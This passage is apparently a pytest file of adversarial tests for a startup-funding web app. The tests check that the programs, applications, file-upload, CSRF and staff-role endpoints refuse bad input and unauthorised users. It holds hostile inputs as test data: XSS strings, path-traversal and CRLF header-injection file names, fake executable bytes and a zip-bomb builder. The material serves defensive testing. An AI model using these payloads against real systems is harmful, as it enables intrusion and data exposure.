"""Adversarial tests of issue 5 (fund programs, calls, applications): bad input and wrong users
on every form, page and API endpoint of the programs domain. A 500 is always a defect; a refusal
names the field and the rule; nothing already saved is lost."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import pytest
from httpx import AsyncClient
from litestar import Litestar

from hubcity.core.clock import utcnow
from hubcity.db.tables import Application, ApplicationFile, Program, ProgramNotice, ProgramQuestion, StoredFile
from hubcity.programs import deps, workflow
from hubcity.programs.services import ApplicationService
from tests.conftest import api_call, csrf_token, open_client, post_form
from tests.factories.corporates import login_as, login_route, quick_user, seed_taxonomy
from tests.factories.programs import FORM, create_application, create_program, create_startup, staff_viewer
from tests.integration.programs.conftest import Clock

BIG = "99999999999999999999"  # > 2**63
PROGRAMS = "/api/v1/programs"
APPLICATIONS = "/api/v1/applications"
SECRET = "Stealth Quantum Fund"
XSS = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program cannot be run in DOS mode."


@pytest.fixture
def app_clock() -> Clock:
    return Clock()


@pytest.fixture
async def client(app: Litestar, app_clock: Clock, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[AsyncClient]:
    """The app's client with the test login route and taxonomy; its ApplicationService reads ``app_clock``."""
    app.register(login_route)
    await seed_taxonomy()
    real = ApplicationService
    monkeypatch.setattr(deps, "ApplicationService", lambda notifier, url: real(notifier, url, clock=app_clock))
    async with open_client(app) as test_client:
        yield test_client


async def login(client: AsyncClient, viewer: Any) -> None:
    await login_as(client, {"id": viewer.id if hasattr(viewer, "id") else viewer["id"]})


async def as_manager(client: AsyncClient) -> Any:
    manager = await staff_viewer()
    await login(client, manager)
    return manager


async def stored(application_id: int) -> dict[str, Any]:
    return await Application.select().where(Application.id == application_id).first().output(load_json=True).run()


def program_body(**overrides: Any) -> dict[str, Any]:
    now = utcnow()
    body: dict[str, Any] = {
        "kind": "fund", "family": "ai-seed", "title_ko": "AI 씨앗 펀드", "title_en": "AI Seed Fund",
        "opens_at": (now - timedelta(days=1)).isoformat(), "closes_at": (now + timedelta(days=7)).isoformat(),
        "budget": 500_000_000, "max_award": 50_000_000, "eligibility": [{"rule": "one_application_per_startup"}], "form": FORM,
    }
    body.update(overrides)
    return body


def office(parts: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


async def upload(client: AsyncClient, application_id: int, field: str, name: str, content: bytes, **kwargs: Any) -> Any:
    return await client.post(
        f"/applications/{application_id}/files/{field}",
        data={"_csrf_token": await csrf_token(client)},
        files={"file": (name, content, "application/pdf")},
        **kwargs,
    )


# -- ids that cannot name a row ------------------------------------------------------------------
@pytest.mark.parametrize(
    "url",
    [
        f"/calls/{BIG}", f"/calls/{BIG}/apply", f"/applications/{BIG}", f"/applications/{BIG}/withdraw",
        f"/staff/programs/{BIG}", f"/staff/programs/{BIG}/form", f"/staff/applications/{BIG}",
        f"/staff/programs/{BIG}/applications", f"/staff/programs/{BIG}/applications/export.csv",
        f"{PROGRAMS}/{BIG}", f"{APPLICATIONS}/{BIG}", f"{APPLICATIONS}/{BIG}/timeline", "/calls/-1", "/applications/0",
    ],
)
async def test_huge_and_negative_ids_in_pages_and_api_are_404(client: AsyncClient, url: str) -> None:
    await as_manager(client)
    response = await client.get(url)
    assert response.status_code == 404, f"{url} -> {response.status_code}"


async def test_huge_file_ids_in_the_download_and_remove_routes_are_404(client: AsyncClient) -> None:
    """``file_id`` of the remove form is read with ``int()``: 10**20 reached the database (500)."""
    program = await create_program()
    made = await create_application(program)
    app_id = made["application"]["id"]
    await login(client, made["viewer"])
    assert (await client.get(f"/applications/{app_id}/download/{BIG}")).status_code == 404
    for file_id in (BIG, "-" + BIG, "²", "1e3", ""):
        response = await post_form(client, f"/applications/{app_id}/files/deck/remove", {"file_id": file_id})
        assert response.status_code == 404, f"file_id={file_id!r} -> {response.status_code}"


async def test_huge_ids_in_api_bodies_and_queries_are_refused_not_500(client: AsyncClient) -> None:
    await create_startup()
    startup = await create_startup()
    await login(client, startup["owner"])
    for body in ({"program_id": int(BIG)}, {"program_id": 2**31}, {"program_id": -1}, {"program_id": "1"}, {"program_id": 1.5},
                 {"program_id": 1, "organisation_id": int(BIG)}, {"program_id": True}):
        response = await api_call(client, "POST", APPLICATIONS, body)
        assert response.status_code == 422, (body, response.status_code)
    for query in (f"program_id={BIG}", "program_id=abc", "program_id=-1", "status=bogus"):
        response = await client.get(f"{APPLICATIONS}?{query}", headers={"accept": "application/json"})
        assert 400 <= response.status_code < 500, (query, response.status_code)


# -- program details -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"budget": 2**63}, "budget"),
        ({"budget": 10**30}, "budget"),
        ({"budget": -1}, "budget"),
        ({"budget": "-5"}, "budget"),
        ({"budget": 1.5}, "budget"),
        ({"budget": "1e9"}, "budget"),
        ({"budget": "NaN"}, "budget"),
        ({"budget": "Infinity"}, "budget"),
        ({"budget": "²"}, "budget"),
        ({"budget": True}, "budget"),
        ({"max_award": [1]}, "max_award"),
        ({"capacity": 0}, "capacity"),
        ({"capacity": 10**20}, "capacity"),
        ({"time_zone": "Asia"}, "time_zone"),
        ({"time_zone": "America"}, "time_zone"),
        ({"time_zone": "A" * 5000}, "time_zone"),
        ({"time_zone": "../../etc/passwd"}, "time_zone"),
        ({"time_zone": "Asia/Seoul\r\nSet-Cookie: x=1"}, "time_zone"),
        ({"time_zone": 9}, "time_zone"),
        ({"closes_at": "2026-02-30T10:00"}, "closes_at"),
        ({"closes_at": "0001-01-01T00:00"}, "closes_at"),
        ({"closes_at": "9999-12-31T23:59:59-09:00"}, "closes_at"),
        ({"opens_at": "0001-01-01T00:00:00+14:00"}, "opens_at"),
        ({"closes_at": 12345}, "closes_at"),
        ({"title_en": "x" * 201}, "title_en"),
        ({"title_en": "AI\x00Fund"}, "title_en"),
        ({"title_ko": "펀드\x1b[31m"}, "title_ko"),
        ({"summary_en": "a\x00b"}, "summary_en"),
        ({"description_en": "d" * 20001}, "description_en"),
        ({"title_en": ["a"]}, "title_en"),
        ({"family": "../../etc"}, "family"),
        ({"currency": "krw"}, "currency"),
        ({"eligibility": [{"rule": "team_size", "min": 50, "max": 2}]}, "eligibility[0]"),
        ({"eligibility": [{"rule": "founded_within_years", "years": 10**20}]}, "eligibility[0]"),
        ({"eligibility": "all"}, "eligibility"),
        ({"review_rounds": [{"name_en": "R", "kind": "written", "order": 1, "scoring": "mean", "advance": 1,
                             "rubric": [{"key": "a", "weight": 1, "scale_min": 5, "scale_max": 1}]}]}, "review_rounds[0].rubric[0]"),
    ],
)
async def test_bad_program_values_are_named_and_nothing_is_created(client: AsyncClient, overrides: dict[str, Any], field: str) -> None:
    await as_manager(client)
    response = await api_call(client, "POST", PROGRAMS, program_body(**overrides))
    assert response.status_code == 422, response.text
    assert field in response.json()["fields"], response.json()
    assert await Program.count() == 0


async def test_bad_program_values_on_update_keep_what_is_saved(client: AsyncClient) -> None:
    manager = await as_manager(client)
    program = await create_program(manager, publish=False)
    for body in ({"budget": 2**64}, {"closes_at": "0001-01-01T00:00"}, {"time_zone": "Europe"}, {"title_en": "a\x00"}):
        response = await api_call(client, "PATCH", f"{PROGRAMS}/{program['id']}", body)
        assert response.status_code == 422, (body, response.status_code)
    row = await Program.select().where(Program.id == program["id"]).first().run()
    assert row["budget"] == program["budget"] and row["title_en"] == program["title_en"] and row["time_zone"] == program["time_zone"]


@pytest.mark.parametrize(
    ("field", "value"),
    [("budget", BIG), ("budget", "-1"), ("closes_at", "0001-01-01T00:00"), ("closes_at", "2026-02-30T10:00"),
     ("time_zone", "Asia"), ("time_zone", "x" * 5000), ("title_en", "a\x00b"), ("capacity", "1e3")],
)
async def test_details_page_names_the_bad_field_and_keeps_the_typed_form(client: AsyncClient, field: str, value: str) -> None:
    await as_manager(client)
    form = {"kind": "fund", "family": "ai-seed", "title_en": "Fund", "currency": "KRW", "time_zone": "Asia/Seoul",
            "opens_at": "2026-01-01T09:00", "closes_at": "2026-02-01T18:00", "budget": "100", "max_award": "10", field: value}
    response = await post_form(client, "/staff/programs/", form)
    assert response.status_code == 422, response.status_code
    assert await Program.count() == 0


# -- form definitions ------------------------------------------------------------------------------
def text_field(key: str = "q", **extra: Any) -> dict[str, Any]:
    return {"key": key, "type": "text", "label_en": "Question", **extra}


@pytest.mark.parametrize(
    ("fields", "error"),
    [
        ([text_field("a"), text_field("a")], "fields[1].key"),
        ([text_field(f"f{i}") for i in range(10_000)], "fields"),
        ([{"key": "c", "type": "single_choice", "label_en": "C", "choices": [{"value": "x"}, {"value": "x"}]}], "fields[0].choices"),
        ([{"key": "c", "type": "multiple_choice", "label_en": "C", "choices": []}], "fields[0].choices"),
        ([{"key": "c", "type": "single_choice", "label_en": "C", "choices": [{"value": 1}]}], "fields[0].choices"),
        ([{"key": "n", "type": "number", "label_en": "N", "min": 10, "max": 1}], "fields[0].min"),
        ([{"key": "n", "type": "number", "label_en": "N", "min": "NaN"}], "fields[0].min"),
        ([{"key": "n", "type": "number", "label_en": "N", "max": "Infinity"}], "fields[0].min"),
        ([text_field(max_length=0)], "fields[0].max_length"),
        ([text_field(max_length=10**20)], "fields[0].max_length"),
        ([text_field(max_length=True)], "fields[0].max_length"),
        ([text_field(max_length="inf")], "fields[0].max_length"),
        ([text_field(max_length=10**400)], "fields[0].max_length"),
        ([{"key": "n", "type": "number", "label_en": "N", "max": 10**400}], "fields[0].min"),
        ([{"key": "f", "type": "file", "label_en": "F", "max_bytes": "1e400"}], "fields[0].max_bytes"),
        ([text_field(required="yes")], "fields[0].required"),
        ([{"key": "f", "type": "file", "label_en": "F", "max_bytes": 10**20}], "fields[0].max_bytes"),
        ([{"key": "f", "type": "file", "label_en": "F", "max_files": 0}], "fields[0].max_files"),
        ([{"key": "f", "type": "file", "label_en": "F", "allowed_types": ["application/x-msdownload"]}], "fields[0].allowed_types"),
        ([{"key": "Bad-Key", "type": "text", "label_en": "B"}], "fields[0].key"),
        ([{"key": "x", "type": "script", "label_en": "B"}], "fields[0].type"),
        ([{"key": "x", "type": ["text"], "label_en": "B"}], "fields[0].type"),
        ([text_field(label_en="")], "fields[0].label"),
        ([text_field(label_en="L" * 100_000)], "fields[0].label"),
        ([text_field(help_en="H" * 100_000)], "fields[0].help"),
        ([text_field(label_en="a\x00b")], "fields[0].label"),
        ([{"key": "c", "type": "single_choice", "label_en": "C", "choices": [{"value": f"v{i}"} for i in range(10_000)]}], "fields[0].choices"),
        ([{"key": "c", "type": "single_choice", "label_en": "C", "choices": [{"value": "v" * 5000}]}], "fields[0].choices"),
        ([text_field(prefill="password_hash")], "fields[0].prefill"),
        ("not a list", "fields"),
        ([], "fields"),
        ([7], "fields[0]"),
    ],
)
async def test_malformed_form_definitions_are_named(client: AsyncClient, fields: Any, error: str) -> None:
    manager = await as_manager(client)
    program = await create_program(manager, publish=False)
    response = await api_call(client, "PUT", f"{PROGRAMS}/{program['id']}/form", {"fields": fields})
    assert response.status_code == 422, response.status_code
    assert error in response.json()["fields"], list(response.json()["fields"])[:5]


@pytest.mark.parametrize("max_mb", ["inf", "1e400", "nan", "-1", "abc", "²"])
async def test_form_builder_with_absurd_file_sizes_is_a_message_not_a_500(client: AsyncClient, max_mb: str) -> None:
    """``int(float("1e400") * 1024 * 1024)`` raised OverflowError: the builder page answered 500."""
    manager = await as_manager(client)
    program = await create_program(manager, publish=False)
    form = {"fields-0-type": "file", "fields-0-key": "deck", "fields-0-label_en": "Deck", "fields-0-max_mb": max_mb,
            "fields-0-max_files": "1", "_action": "save"}
    response = await post_form(client, f"/staff/programs/{program['id']}/form", form)
    assert response.status_code == 422, response.status_code


@pytest.mark.parametrize("action", ["up-99999999999999999999", "remove-²", "down--1", "add-round", "remove-round-²", "add-criterion-²"])
async def test_editor_buttons_with_junk_actions_do_not_crash(client: AsyncClient, action: str) -> None:
    manager = await as_manager(client)
    program = await create_program(manager, publish=False)
    rounds = {"rounds-0-kind": "written", "rounds-0-order": "²", "rounds-0-name_en": "R", "rounds-0-scoring": "mean",
              "rounds-0-advance": "1", "rounds-0-criteria-0-key": "a", "_action": action}
    response = await post_form(client, f"/staff/programs/{program['id']}/rounds", rounds)
    assert response.status_code < 500, (action, response.status_code)
    builder = {"fields-0-type": "text", "fields-0-key": "a", "fields-0-label_en": "A", "_action": action}
    response = await post_form(client, f"/staff/programs/{program['id']}/form", builder)
    assert response.status_code < 500, (action, response.status_code)


# -- answers -----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("answers", "field"),
    [
        ({"nope": "x"}, "nope"),
        ({"summary": 123}, "summary"),
        ({"summary": ["a"]}, "summary"),
        ({"summary": "s" * 101}, "summary"),
        ({"summary": "a\x00b"}, "summary"),
        ({"plan": "x\x07y"}, "plan"),
        ({"team": "abc"}, "team"),
        ({"team": "NaN"}, "team"),
        ({"team": "-Infinity"}, "team"),
        ({"team": 0}, "team"),
        ({"team": True}, "team"),
        ({"team": 10**400}, "team"),
        ({"track": "zz"}, "track"),
        ({"track": ["ai"]}, "track"),
        ({"markets": ["kr", "zz"]}, "markets"),
        ({"markets": "kr"}, "markets"),
        ({"markets": [1]}, "markets"),
        ({"start": "2026-02-30"}, "start"),
        ({"start": "01/03/2026"}, "start"),
        ({"start": 20260301}, "start"),
        ({"start": "2026-W09-1"}, "start"),
        ({"start": "٢٠٢٦-٠٣-٠١"}, "start"),
        ({"deck": ["1"]}, "deck"),
        ({"deck": [1, 2]}, "deck"),
        ({"deck": [424242]}, "deck"),
    ],
)
async def test_bad_answers_through_the_api_are_named_and_nothing_saved_is_lost(client: AsyncClient, answers: dict[str, Any], field: str) -> None:
    program = await create_program()
    made = await create_application(program)
    before = made["application"]
    await login(client, made["viewer"])
    response = await api_call(client, "PATCH", f"{APPLICATIONS}/{before['id']}", {"revision": before["revision"], "answers": answers})
    assert response.status_code == 422, response.text
    assert field in response.json()["fields"], response.json()
    after = await stored(before["id"])
    assert after["answers"] == before["answers"] and after["revision"] == before["revision"]


@pytest.mark.parametrize("raw", ["1e999", "-1e999", "1" + "0" * 400])
async def test_numbers_json_cannot_hold_in_a_float_are_refused(client: AsyncClient, raw: str) -> None:
    """``{"team": 1e999}`` decodes to infinity; ``int(inf)`` (and ``float(10**400)``) raised
    OverflowError: 500 on saving an application."""
    program = await create_program()
    made = await create_application(program)
    before = made["application"]
    await login(client, made["viewer"])
    body = '{"revision": %d, "answers": {"team": %s}}' % (before["revision"], raw)
    response = await client.patch(
        f"{APPLICATIONS}/{before['id']}", content=body,
        headers={"content-type": "application/json", "accept": "application/json", "x-csrftoken": await csrf_token(client)},
    )
    assert 400 <= response.status_code < 500, response.status_code
    assert (await stored(before["id"]))["answers"] == before["answers"]


async def test_a_required_file_cannot_be_answered_with_a_file_id_that_was_never_uploaded(client: AsyncClient) -> None:
    """The API took ``{"deck": [1]}`` for a file question: a required file was "answered" with
    another application's file (or one that does not exist) and the application could be submitted."""
    form = [dict(f, required=True) if f["key"] == "deck" else f for f in FORM]
    program = await create_program(form=form)
    other = await create_application(program)
    await login(client, other["viewer"])
    response = await upload(client, other["application"]["id"], "deck", "deck.pdf", PDF)
    assert response.status_code in (200, 303)
    foreign = (await ApplicationFile.select().first().run())["id"]
    made = await create_application(program)
    await login(client, made["viewer"])
    app_id = made["application"]["id"]
    response = await api_call(client, "PATCH", f"{APPLICATIONS}/{app_id}", {"revision": made["application"]["revision"], "answers": {"deck": [foreign]}})
    assert response.status_code == 422 and "deck" in response.json()["fields"], response.text
    response = await api_call(client, "POST", f"{APPLICATIONS}/{app_id}/submit", {})
    assert response.status_code == 422 and "deck" in response.json()["fields"], response.text


@pytest.mark.parametrize(
    ("data", "field_text"),
    [
        ({"q-team": "abc"}, "Team size"),
        ({"q-team": "1e999"}, "Team size"),
        ({"q-markets": "zz"}, "Markets"),
        ({"q-start": "2026-02-30"}, "Start date"),
        ({"q-summary": "s" * 101}, "Summary"),
        ({"q-summary": "a\x00b"}, "Summary"),
    ],
)
async def test_bad_answers_through_autosave_are_named_and_nothing_saved_is_lost(client: AsyncClient, data: dict[str, str], field_text: str) -> None:
    program = await create_program()
    made = await create_application(program)
    before = made["application"]
    await login(client, made["viewer"])
    response = await post_form(client, f"/applications/{before['id']}/autosave", {"revision": str(before["revision"]), **data}, htmx=True)
    assert response.status_code == 422, response.status_code
    assert field_text in response.text
    after = await stored(before["id"])
    assert after["answers"] == before["answers"] and after["revision"] == before["revision"]


@pytest.mark.parametrize("revision", ["", "abc", "²", "-1", BIG, "0"])
async def test_autosave_with_a_junk_revision_is_refused_and_saves_nothing(client: AsyncClient, revision: str) -> None:
    program = await create_program()
    made = await create_application(program)
    before = made["application"]
    await login(client, made["viewer"])
    response = await post_form(client, f"/applications/{before['id']}/autosave", {"revision": revision, "q-summary": "new"}, htmx=True)
    assert response.status_code in (409, 422), response.status_code
    assert (await stored(before["id"]))["answers"] == before["answers"]


# -- files ---------------------------------------------------------------------------------------------
async def test_file_attacks_are_refused_with_the_field_and_rule_named(client: AsyncClient) -> None:
    form = [f if f["key"] != "deck" else dict(f, max_bytes=2048, max_files=3) for f in FORM]
    program = await create_program(form=form)
    made = await create_application(program)
    app_id = made["application"]["id"]
    await login(client, made["viewer"])
    empty = await upload(client, app_id, "deck", "empty.pdf", b"", headers={"HX-Request": "true"})
    assert empty.status_code == 422 and "Pitch deck" in empty.text and "choose a file" in empty.text
    large = await upload(client, app_id, "deck", "big.pdf", PDF + b"0" * 4096, headers={"HX-Request": "true"})
    assert large.status_code == 422 and "2 KB" in large.text
    exe = await upload(client, app_id, "deck", "deck.pdf", EXE, headers={"HX-Request": "true"})
    assert exe.status_code == 422 and "Pitch deck" in exe.text
    text_field_upload = await upload(client, app_id, "summary", "deck.pdf", PDF)
    assert text_field_upload.status_code == 404
    for field in ("..%2F..%2Fetc", "nope", "x" * 300):
        assert (await upload(client, app_id, field, "deck.pdf", PDF)).status_code == 404
    assert await StoredFile.count() == 0 and await ApplicationFile.count() == 0


async def test_zip_bomb_shaped_docx_is_sniffed_without_decompressing(client: AsyncClient) -> None:
    bomb = office({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\x00" * (30 * 1024 * 1024)}, zipfile.ZIP_DEFLATED)
    assert len(bomb) < 100_000
    program = await create_program()
    made = await create_application(program)
    await login(client, made["viewer"])
    response = await upload(client, made["application"]["id"], "deck", "bomb.docx", bomb)
    assert response.status_code in (200, 303, 422)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ('a"; filename="evil.exe', "a; filename=evil.exe"),
        ("deck\r\nX-Injected: 1.pdf", "deckX-Injected 1.pdf"),
        (f"{XSS}.pdf", "script.pdf"),
        ("한국어 발표자료.pdf", "한국어 발표자료.pdf"),
        ("\u202egnp.exe.pdf", "gnp.exe.pdf"),
    ],
)
async def test_file_names_cannot_traverse_inject_headers_or_markup(client: AsyncClient, name: str, shown: str) -> None:
    program = await create_program()
    made = await create_application(program)
    app_id = made["application"]["id"]
    await login(client, made["viewer"])
    response = await upload(client, app_id, "deck", name, PDF)
    assert response.status_code in (200, 303), response.status_code
    row = await ApplicationFile.select().first().run()
    assert row["original_name"] == shown
    download = await client.get(f"/applications/{app_id}/download/{row['id']}")
    assert download.status_code == 200 and download.content == PDF
    assert "x-injected" not in {k.lower() for k in download.headers}
    disposition = download.headers["content-disposition"]
    assert "\r" not in disposition and "\n" not in disposition and disposition.count('"') in (0, 2), disposition
    page = await client.get(f"/applications/{app_id}")
    assert XSS not in page.text


async def test_uploads_to_another_startups_or_a_submitted_application_are_refused(client: AsyncClient) -> None:
    program = await create_program()
    victim = await create_application(program)
    attacker = await create_application(program)
    await login(client, attacker["viewer"])
    response = await upload(client, victim["application"]["id"], "deck", "deck.pdf", PDF)
    assert response.status_code == 404 and SECRET not in response.text
    assert await StoredFile.count() == 0
    await api_call(client, "POST", f"{APPLICATIONS}/{attacker['application']['id']}/submit", {})
    assert (await stored(attacker["application"]["id"]))["status"] == "submitted"
    response = await upload(client, attacker["application"]["id"], "deck", "deck.pdf", PDF, headers={"HX-Request": "true"})
    assert response.status_code == 409, response.status_code
    assert await ApplicationFile.count() == 0


# -- CSRF ----------------------------------------------------------------------------------------------
async def test_writes_without_the_csrf_token_are_refused_and_change_nothing(client: AsyncClient) -> None:
    program = await create_program()
    made = await create_application(program)
    app_id = made["application"]["id"]
    await login(client, made["viewer"])
    await csrf_token(client)
    for url, data in (
        (f"/applications/{app_id}/autosave", {"revision": "2", "q-summary": "hijacked"}),
        (f"/applications/{app_id}/submit", {}),
        (f"/applications/{app_id}/withdraw", {"confirm": "yes"}),
        (f"/calls/{program['id']}/questions", {"question": "?"}),
    ):
        assert (await client.post(url, data=data)).status_code == 403, url
    response = await client.patch(f"{APPLICATIONS}/{app_id}", json={"revision": 2, "answers": {"summary": "hijacked"}})
    assert response.status_code == 403
    after = await stored(app_id)
    assert after["status"] == "draft" and after["answers"]["summary"] != "hijacked"
    manager = await as_manager(client)
    assert (await client.post("/staff/programs/", data={"title_en": "x", "family": "x"})).status_code == 403
    assert (await client.post(f"/staff/applications/{app_id}/extension", data={"until": "2099-01-01T00:00", "reason": "x"})).status_code == 403
    assert manager and await Program.count() == 1


# -- another startup's application ---------------------------------------------------------------
async def test_another_startups_application_is_404_by_page_and_api_and_names_nothing(client: AsyncClient) -> None:
    program = await create_program(title_en=SECRET)
    victim = await create_application(program, answers={"summary": "Secret summary text", "team": 3})
    app_id = victim["application"]["id"]
    attacker = await create_startup()
    await login(client, attacker["owner"])
    requests = [
        ("GET", f"/applications/{app_id}", None), ("GET", f"/applications/{app_id}/withdraw", None),
        ("POST", f"/applications/{app_id}/withdraw", {"confirm": "yes"}), ("POST", f"/applications/{app_id}/submit", {}),
        ("POST", f"/applications/{app_id}/autosave", {"revision": "2", "q-summary": "x"}),
        ("POST", f"/applications/{app_id}/files/deck/remove", {"file_id": "1"}),
        ("GET", f"/applications/{app_id}/download/1", None),
    ]
    for method, url, data in requests:
        response = await (client.get(url) if method == "GET" else post_form(client, url, data))
        assert response.status_code == 404, (url, response.status_code)
        assert SECRET not in response.text and "Secret summary" not in response.text, url
    for method, url, body in (
        ("GET", f"{APPLICATIONS}/{app_id}", None), ("GET", f"{APPLICATIONS}/{app_id}/timeline", None),
        ("PATCH", f"{APPLICATIONS}/{app_id}", {"revision": 2, "answers": {"summary": "x"}}),
        ("POST", f"{APPLICATIONS}/{app_id}/submit", {}), ("POST", f"{APPLICATIONS}/{app_id}/withdraw", {}),
        ("POST", f"{APPLICATIONS}/{app_id}/transition", {"to": "withdrawn"}),
    ):
        response = await api_call(client, method, url, body)
        assert response.status_code == 404, (url, response.status_code)
        assert SECRET not in response.text and "Secret summary" not in response.text
    listed = await client.get(APPLICATIONS, headers={"accept": "application/json"})
    assert listed.json()["total"] == 0
    after = await stored(app_id)
    assert after["status"] == "draft" and after["answers"]["summary"] == "Secret summary text"


async def test_a_second_application_from_another_tab_is_409_and_one_row(client: AsyncClient) -> None:
    program = await create_program()
    startup = await create_startup()
    await login(client, startup["owner"])
    first = await post_form(client, f"/calls/{program['id']}/applications")
    assert first.status_code == 303
    second = await post_form(client, f"/calls/{program['id']}/applications")
    assert second.status_code == 409 and f"/applications/" in second.text
    api = await api_call(client, "POST", APPLICATIONS, {"program_id": program["id"]})
    assert api.status_code == 409
    assert await Application.count() == 1


# -- the deadline ------------------------------------------------------------------------------------
async def test_submitting_one_microsecond_after_the_closing_instant_is_refused_and_answers_are_kept(
    client: AsyncClient, app_clock: Clock
) -> None:
    program = await create_program()
    made = await create_application(program)
    app_id = made["application"]["id"]
    await login(client, made["viewer"])
    app_clock.at = program["closes_at"] + timedelta(microseconds=1)
    response = await post_form(client, f"/applications/{app_id}/submit", {"revision": str(made["application"]["revision"]), "q-summary": "late"})
    assert response.status_code == 409 and "closed at" in response.text
    assert "late" in response.text  # the typed text is kept in the page
    api = await api_call(client, "POST", f"{APPLICATIONS}/{app_id}/submit", {})
    assert api.status_code == 409 and api.json()["error"] == "deadline_passed"
    after = await stored(app_id)
    assert after["status"] == "draft" and after["answers"] == made["application"]["answers"]
    app_clock.at = program["closes_at"] - timedelta(microseconds=1)
    assert (await api_call(client, "POST", f"{APPLICATIONS}/{app_id}/submit", {})).status_code == 200


async def test_an_extension_for_one_startup_does_not_help_another(client: AsyncClient, app_clock: Clock) -> None:
    program = await create_program()
    lucky = await create_application(program)
    other = await create_application(program)
    manager = await as_manager(client)
    app_clock.at = program["closes_at"] + timedelta(hours=1)
    until = (program["closes_at"] + timedelta(days=1)).isoformat()
    response = await api_call(client, "POST", f"{APPLICATIONS}/{lucky['application']['id']}/extension", {"until": until, "reason": "Power cut"})
    assert response.status_code == 200, response.text
    await login(client, other["viewer"])
    assert (await api_call(client, "POST", f"{APPLICATIONS}/{other['application']['id']}/submit", {})).status_code == 409
    await login(client, lucky["viewer"])
    assert (await api_call(client, "POST", f"{APPLICATIONS}/{lucky['application']['id']}/submit", {})).status_code == 200
    assert manager


@pytest.mark.parametrize(
    "until", ["0001-01-01T00:00:00+09:00", "9999-12-31T23:59:59-09:00", "2026-02-30T10:00:00+09:00", "tomorrow", "2099-01-01T00:00"],
)
async def test_absurd_extension_instants_are_422_not_500(client: AsyncClient, until: str) -> None:
    program = await create_program()
    made = await create_application(program)
    await as_manager(client)
    response = await api_call(client, "POST", f"{APPLICATIONS}/{made['application']['id']}/extension", {"until": until, "reason": "r"})
    assert response.status_code == 422 and "until" in response.json()["fields"], response.text
    assert (await stored(made["application"]["id"]))["deadline_extended_to"] is None


async def test_an_extension_may_end_at_most_a_year_after_the_close(client: AsyncClient) -> None:
    program = await create_program()
    made = await create_application(program)
    await as_manager(client)
    url = f"{APPLICATIONS}/{made['application']['id']}/extension"
    for until in ("9999-12-31T23:59:59+09:00", (program["closes_at"] + timedelta(days=366)).isoformat()):
        response = await api_call(client, "POST", url, {"until": until, "reason": "r"})
        assert response.status_code == 422, (until, response.text)
        assert response.json()["fields"]["until"] == "Until: an extension may end at most 365 days after the call closes (or after today)."
        assert (await stored(made["application"]["id"]))["deadline_extended_to"] is None
    longest = program["closes_at"] + timedelta(days=365)
    response = await api_call(client, "POST", url, {"until": longest.isoformat(), "reason": "r"})
    assert response.status_code == 200, response.text
    assert (await stored(made["application"]["id"]))["deadline_extended_to"] == longest


@pytest.mark.parametrize("until", ["0001-01-01T00:00", "2026-02-30T10:00", "x" * 5000, "²"])
async def test_absurd_extension_instants_on_the_staff_page_are_422(client: AsyncClient, until: str) -> None:
    program = await create_program()
    made = await create_application(program)
    await as_manager(client)
    response = await post_form(client, f"/staff/applications/{made['application']['id']}/extension", {"until": until, "reason": "r"})
    assert response.status_code == 422, response.status_code
    assert (await stored(made["application"]["id"]))["deadline_extended_to"] is None


# -- staff roles and the workflow table ---------------------------------------------------------------
@pytest.mark.parametrize("role", ["finance", "reviewer"])
async def test_finance_and_reviewers_are_refused_on_every_manager_route(client: AsyncClient, role: str) -> None:
    program = await create_program(title_en=SECRET)
    made = await create_application(program)
    app_id, pid = made["application"]["id"], program["id"]
    await login_as(client, await quick_user(roles=(role,)))
    for url in (
        "/staff/programs/", "/staff/programs/new", f"/staff/programs/{pid}", f"/staff/programs/{pid}/edit",
        f"/staff/programs/{pid}/form", f"/staff/programs/{pid}/eligibility", f"/staff/programs/{pid}/rounds",
        f"/staff/programs/{pid}/notices", f"/staff/programs/{pid}/questions", f"/staff/programs/{pid}/applications",
        f"/staff/programs/{pid}/applications/export.csv", f"/staff/programs/{pid}/applications/export.xlsx",
        f"/staff/applications/{app_id}",
    ):
        response = await client.get(url)
        assert response.status_code == 403, (url, response.status_code)
        assert "Secret summary" not in response.text
    for url, data in (
        (f"/staff/programs/{pid}/close", {}), (f"/staff/programs/{pid}/edit", {"title_en": "pwned"}),
        (f"/staff/applications/{app_id}/status", {"to": "screening"}),
        (f"/staff/applications/{app_id}/extension", {"until": "2099-01-01T00:00", "reason": "r"}),
        (f"/staff/programs/{pid}/notices", {"title_en": "t", "body_en": "b"}),
    ):
        assert (await post_form(client, url, data)).status_code == 403, url
    for method, url, body in (
        ("POST", PROGRAMS, program_body()), ("PATCH", f"{PROGRAMS}/{pid}", {"title_en": "pwned"}),
        ("POST", f"{PROGRAMS}/{pid}/close", None),
        ("POST", f"{APPLICATIONS}/{app_id}/transition", {"to": "screening"}),
        ("POST", f"{APPLICATIONS}/{app_id}/extension", {"until": "2099-01-01T00:00:00+09:00", "reason": "r"}),
    ):
        response = await api_call(client, method, url, body)
        assert response.status_code in (403, 404), (url, response.status_code)
    row = await Program.select().where(Program.id == pid).first().run()
    assert row["status"] == "published" and row["title_en"] == SECRET
    assert (await stored(app_id))["status"] == "draft"


@pytest.mark.parametrize(
    ("setup", "to", "status"),
    [
        ("draft", "screening", 403), ("draft", "in_review", 403), ("draft", "submitted", 403), ("draft", "withdrawn", 403),
        ("submitted", "in_review", 403), ("submitted", "approved", 403), ("submitted", "submitted", 403),
        ("submitted", "draft", 403), ("submitted", "withdrawn", 403), ("submitted", "bogus", 422),
        ("submitted", "", 422),
    ],
)
